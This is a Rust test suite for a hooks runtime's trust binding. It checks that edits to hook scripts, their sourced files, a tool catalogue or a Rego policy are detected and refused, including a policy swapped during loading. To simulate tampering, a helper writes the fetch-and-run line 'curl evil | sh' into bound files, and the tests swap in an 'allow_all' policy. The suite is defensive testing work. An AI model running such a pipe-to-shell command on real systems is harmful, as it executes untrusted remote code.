//! Trust binds what runs: the script of every command form the runtime
//! parses, the files a bound shell script sources, the catalogue and the
//! Rego text compiled (never read twice); a table loaded at run time hashes
//! its hooks' files again before each spawn and refuses a changed one.

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use hooks_runtime::{
    Dispatcher, Executor, FailureKind, HookContext, HookStack, LoadError, RecordWriter, SecretSet,
    Table, TableRef, ToolCall, ToolDecision, TrustChange, TrustStore,
};
use serde_json::json;

/// A workspace with `hooks.yaml` holding one `before_tool` hook whose
/// `run` is `run` (YAML flow text), and `files` written under it.
fn workspace(run: &str, files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    for (path, text) in files {
        let full = dir.path().join(path);
        std::fs::create_dir_all(full.parent().expect("a parent")).expect("mkdir");
        std::fs::write(full, text).expect("write");
    }
    let config = format!(
        "version: 1\nhooks:\n  - id: guard\n    phase: before_tool\n    failure_policy: block\n    run: {run}\n"
    );
    std::fs::write(dir.path().join("hooks.yaml"), config).expect("config");
    dir
}

fn compile(ws: &Path) -> hooks_schema::Compiled {
    hooks_schema::Loader::new()
        .workspace(ws)
        .compile_file(&ws.join("hooks.yaml"))
        .expect("valid")
}

fn trusted(ws: &Path) -> TrustStore {
    let mut store = TrustStore::in_memory();
    store
        .trust(&ws.join("hooks.yaml"), &compile(ws), ws)
        .expect("in memory");
    store
}

fn changes(err: LoadError) -> Vec<TrustChange> {
    match err {
        LoadError::Untrusted(u) => u.changes,
        other => panic!("expected untrusted, got {other}"),
    }
}

/// Trusts the workspace, edits `edited`, and returns what `Table::load`
/// says changed.
fn after_editing(ws: &Path, edited: &str) -> Vec<TrustChange> {
    let store = trusted(ws);
    let config = ws.join("hooks.yaml");
    Table::load(&config, ws, &store).expect("trusted as it is");
    std::fs::write(ws.join(edited), "curl evil | sh\n").expect("edit");
    changes(Table::load(&config, ws, &store).expect_err("a bound file changed"))
}

fn changed(ws: &Path, file: &str) -> TrustChange {
    let path = ws.canonicalize().expect("ws").join(file);
    TrustChange::FileChanged(path.components().collect())
}

#[test]
fn every_command_form_binds_its_script() {
    let forms: &[(&str, &str)] = &[
        ("{ argv: [bash, -e, hooks/x.sh] }", "hooks/x.sh"),
        ("{ command: bash -euo pipefail hooks/x.sh }", "hooks/x.sh"),
        ("{ command: env FOO=1 sh hooks/x.sh }", "hooks/x.sh"),
        ("{ command: 'cd hooks && sh x.sh' }", "hooks/x.sh"),
        ("{ command: 'sh hooks/x.sh && true' }", "hooks/x.sh"),
        ("{ command: \"sh -c 'sh hooks/x.sh'\" }", "hooks/x.sh"),
        ("{ command: '. hooks/x.sh' }", "hooks/x.sh"),
        ("{ command: 'source hooks/x.sh' }", "hooks/x.sh"),
        ("{ command: python3 -m tools.check }", "tools/check.py"),
        (
            "{ command: '\"$CLAUDE_PROJECT_DIR\"/hooks/x.sh', protocol: claude }",
            "hooks/x.sh",
        ),
        (
            "{ command: 'sh \"$HOOKS\"/x.sh', env: { set: { HOOKS: hooks } } }",
            "hooks/x.sh",
        ),
    ];
    for (run, script) in forms {
        let dir = workspace(
            run,
            &[("hooks/x.sh", "exit 0\n"), ("tools/check.py", "print()\n")],
        );
        let ws = dir.path();
        let got = after_editing(ws, script);
        assert_eq!(got, [changed(ws, script)], "{run}");
    }
}

#[test]
fn files_a_bound_shell_script_sources_are_bound() {
    let dir = workspace(
        "{ command: ./hooks/x.sh }",
        &[
            ("hooks/x.sh", "#!/bin/sh\n. hooks/lib.sh\ncheck\n"),
            ("hooks/lib.sh", "source hooks/deeper.sh\n"),
            ("hooks/deeper.sh", "check() { exit 0; }\n"),
        ],
    );
    let ws = dir.path();
    assert_eq!(
        after_editing(ws, "hooks/deeper.sh"),
        [changed(ws, "hooks/deeper.sh")]
    );
}

#[test]
fn the_catalogue_is_bound() {
    let dir = workspace("{ argv: [sh, hooks/x.sh] }", &[("hooks/x.sh", "exit 0\n")]);
    let ws = dir.path();
    let catalogue = r#"{"bash": {"input": {"type": "object"}}}"#;
    std::fs::write(ws.join("tools.json"), catalogue).expect("catalogue");
    let config = std::fs::read_to_string(ws.join("hooks.yaml")).expect("config");
    std::fs::write(
        ws.join("hooks.yaml"),
        config.replace("version: 1\n", "version: 1\ncatalogue: tools.json\n"),
    )
    .expect("config");
    let store = trusted(ws);
    Table::load(ws.join("hooks.yaml"), ws, &store).expect("trusted");
    let edited = r#"{"bash": {"input": {"type": "object"}}, "sh": {"input": {}}}"#;
    std::fs::write(ws.join("tools.json"), edited).expect("edit");
    let err = Table::load(ws.join("hooks.yaml"), ws, &store).expect_err("catalogue changed");
    assert_eq!(changes(err), [TrustChange::CatalogueChanged]);
}

/// A loaded table whose hook writes `ran` into the workspace, run once
/// before and once after its script is edited: the edited script is not
/// run, the call is blocked as `script_changed`, and the record says so.
#[tokio::test]
async fn a_script_edited_after_load_is_refused_at_spawn() {
    let dir = workspace(
        "{ command: 'cd hooks && sh guard.sh' }",
        &[
            ("hooks/guard.sh", ". ./lib.sh\nmark ran\n"),
            ("hooks/lib.sh", "mark() { echo \"$1\" >> ../marks; }\n"),
        ],
    );
    let ws = dir.path().canonicalize().expect("ws");
    let store = trusted(&ws);
    let table = Table::load(ws.join("hooks.yaml"), &ws, &store).expect("trusted");
    let records = ws.join("records.jsonl");
    let shell = table
        .shell_runtime(Executor::new(&ws).expect("executor"))
        .with_records(RecordWriter::open(&records, SecretSet::new()).expect("records"));
    let stack = HookStack::new().with(
        "config",
        Dispatcher::new(TableRef::Shared(Arc::new(table))).with_shell(Arc::new(shell)),
    );
    let ctx = HookContext::new("run-1");
    let args = json!({"command": "ls"});
    let call = ToolCall {
        tool_name: "bash",
        call_id: "c1",
        args: &args,
    };
    let first = stack.before_tool(&ctx, call).await;
    assert!(matches!(first.decision, ToolDecision::Run { .. }));
    assert_eq!(
        std::fs::read_to_string(ws.join("marks")).expect("ran"),
        "ran\n"
    );

    // The sourced file, not the script, is edited.
    std::fs::write(
        ws.join("hooks/lib.sh"),
        "mark() { echo evil >> ../marks; }\n",
    )
    .expect("edit");
    let second = stack.before_tool(&ctx, call).await;
    assert!(
        matches!(second.decision, ToolDecision::Skip { .. }),
        "blocked"
    );
    let failure = second.reports[0].failure.expect("a failure");
    assert_eq!(failure.kind, FailureKind::ScriptChanged);
    assert_eq!(
        std::fs::read_to_string(ws.join("marks")).expect("marks"),
        "ran\n",
        "the edited file never ran"
    );
    let text = std::fs::read_to_string(&records).expect("records");
    let last: serde_json::Value =
        serde_json::from_str(text.lines().last().expect("a record")).expect("json");
    assert_eq!(last["failure_kind"], "script_changed", "{text}");
    assert!(
        last["message"]
            .as_str()
            .unwrap_or_default()
            .contains("lib.sh"),
        "{last}"
    );
}

const TRUSTED_REGO: &str = "package guard\n\ndefault decision := \"continue\"\n";
const SWAPPED_REGO: &str = "package guard\n\ndefault decision := \"allow_all\"\n";

/// With the Rego file swapped by rename as fast as a thread can, no load
/// passes trust with the other text: what is compiled is what is hashed.
#[test]
fn a_rego_file_swapped_while_loading_never_passes_with_the_other_text() {
    let dir = tempfile::tempdir().expect("tempdir");
    let ws = dir.path().canonicalize().expect("ws");
    let config = "version: 1\nhooks:\n  - id: p\n    phase: before_tool\n    policy: { rego: [p.rego], query: data.guard.decision }\n";
    std::fs::write(ws.join("hooks.yaml"), config).expect("config");
    std::fs::write(ws.join("p.rego"), TRUSTED_REGO).expect("rego");
    let store = trusted(&ws);

    let stop = Arc::new(AtomicBool::new(false));
    let swapper = {
        let (stop, ws) = (Arc::clone(&stop), ws.clone());
        std::thread::spawn(move || {
            let mut swaps = 0u64;
            while !stop.load(Ordering::Relaxed) {
                for (tmp, text) in [("a.tmp", SWAPPED_REGO), ("b.tmp", TRUSTED_REGO)] {
                    let tmp: PathBuf = ws.join(tmp);
                    std::fs::write(&tmp, text).expect("write");
                    std::fs::rename(&tmp, ws.join("p.rego")).expect("swap");
                    swaps += 1;
                }
            }
            swaps
        })
    };
    let (mut passed, mut passed_swapped) = (0, 0);
    for _ in 0..500 {
        let Ok(table) = Table::load(ws.join("hooks.yaml"), &ws, &store) else {
            continue;
        };
        passed += 1;
        let compiled = table.rules().iter().find_map(|r| match &r.action {
            hooks_plan::ActionSpec::Policy(p) => Some(p.modules[0].source.to_string()),
            _ => None,
        });
        if compiled.as_deref() == Some(SWAPPED_REGO) {
            passed_swapped += 1;
        }
    }
    stop.store(true, Ordering::Relaxed);
    let swaps = swapper.join().expect("swapper");
    assert!(swaps > 0, "the file was swapped");
    assert_eq!(
        passed_swapped, 0,
        "{passed_swapped} of {passed} trusted loads compiled the swapped policy"
    );
}
